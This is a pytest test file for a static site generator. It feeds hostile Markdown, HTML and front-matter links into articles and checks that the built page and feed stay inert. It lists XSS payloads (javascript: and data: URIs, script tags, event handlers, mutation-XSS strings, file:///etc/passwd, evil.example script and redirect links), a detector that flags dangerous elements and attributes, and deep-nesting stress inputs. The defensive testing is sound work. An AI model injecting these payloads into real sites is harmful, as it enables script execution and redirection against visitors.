"""Markdown and HTML that attack the reader: inert in the page and in the feed."""

import re
from pathlib import Path

import feedparser
import html5lib
import pytest

from crawler import without_own
from support import article, build_site, make_site, page

A = "content/a.md"
URL = "/2023/07/27/a-title/"
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "blob:https://e.org/x",
    "intent://x#Intent;end",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "[x][y]\n\n[y]: {}",
    "<{}>",
    '<a href="{}">x</a>',
    "![x]({})",
    '<img src="{}">',
]
ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=x><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' onclick=alert(1) id=page--main class='skip masthead'>x</p>",
    "<a href='https://e.org' target=_top onmouseover=alert(1) ping=https://evil.example>x</a>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    "# x { onclick=alert(1) id=page--main }",
    '```"><script>alert(1)</script>\nx\n```',
    "```{ .py onclick=alert(1) }\nx\n```",
    "<p id=__proto__>x</p><p id=page--x>y</p>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[x](https://e.org/"onmouseover=alert(1)//)',
    '![a" onerror="alert(1)](/favicon.svg)',
    '[x](https://e.org "t\\" onclick=\\"alert(1)")',
]
BAD_ELEMENTS = set(
    "script iframe object embed form input button base style svg math video audio".split()
)
FRAME = {"meta", "link"}


def faults(markup: str, *, is_page: bool) -> list[str]:
    """Return what in a page or a feed body could act, load or hide."""
    found = []
    for element in html5lib.parse(markup, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag.rpartition("}")[2] in BAD_ELEMENTS | (set() if is_page else FRAME):
            found.append(element.tag)
        for name, value in element.attrib.items():
            scheme = re.match(r"\s*([a-zA-Z][\w+.-]*):", value)
            outside = scheme and scheme[1].lower() not in {"http", "https", "mailto"}
            placeholder = (name, value) == ("src", "data:,")
            if name.startswith("on") or name in {"style", "target", "ping", "background"}:
                found.append(f"{element.tag} {name}")
            if name in {"href", "src"} and not placeholder and (outside or value.startswith("//")):
                found.append(f"{element.tag} {name}={value}")
    return found


def check(site: Path, url: str = URL) -> None:
    html = without_own(page(site, url))
    assert faults(html, is_page=True) == []
    assert html.count('id="page--main"') == 1
    assert "__proto__" not in re.findall(r'id="([^"]*)"', html)
    feed = feedparser.parse((site / "public/feed.xml").read_bytes(), sanitize_html=False)
    assert not feed.bozo
    assert faults(feed.entries[0].content[0].value, is_page=False) == []


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("target", SCHEMES)
def test_no_unsafe_link_lives(tmp_path: Path, form: str, target: str) -> None:
    outcome = build_site(make_site(tmp_path, {A: article(body=form.format(target))}))
    if outcome.ok:
        check(tmp_path)
    else:
        assert set(outcome.codes) <= {"dead-link", "remote-image"}


@pytest.mark.parametrize("text", ELEMENTS)
def test_hostile_markup_is_inert(tmp_path: Path, text: str) -> None:
    outcome = build_site(make_site(tmp_path, {A: article(body=f"Before.\n\n{text}\n\nAfter.")}))
    assert outcome.ok, outcome.text
    check(tmp_path)


@pytest.mark.parametrize("target", SCHEMES)
@pytest.mark.parametrize("field", ["sources: ['{}']", "image: '{}'", "sources: [{{url: '{}'}}]"])
def test_front_matter_links_to_no_unsafe_address(tmp_path: Path, field: str, target: str) -> None:
    outcome = build_site(make_site(tmp_path, {A: article(extra=field.format(target))}))
    assert not outcome.ok


ODD = {
    "open bracket": "<![",
    "open comment": "<!--",
    "open instruction": "<?php",
    "2,000 quotes": ">" * 2000 + " x",
    "5,000 boxes": "<div>" * 5000 + "x",
    "100,000 boxes": "<div>" * 100_000 + "x",
    "2,000 tags": "<i>" * 2000 + "x",
    "deep list": "".join(f"{'    ' * depth}* x\n" for depth in range(150)),
    "deep emphasis": "*_" * 300 + "x" + "_*" * 300,
    "control by entity": "a&#1;b&#0;c",
    "control": "a\x0bb\x00c".replace("\x00", ""),
}


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
def test_odd_markup_gives_a_sound_page(tmp_path: Path, text: str) -> None:
    outcome = build_site(make_site(tmp_path, {A: article(body=f"{text}\n\nAfter.")}))
    assert outcome.ok, outcome.text
    html = page(tmp_path, URL)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", html)
    depth = deepest = 0
    for closing in re.findall(r"<(/?)(?:div|i|blockquote|ul|li|em|strong)\b", html):
        depth += -1 if closing else 1
        deepest = max(deepest, depth)
    assert deepest < 100
    assert depth == 0
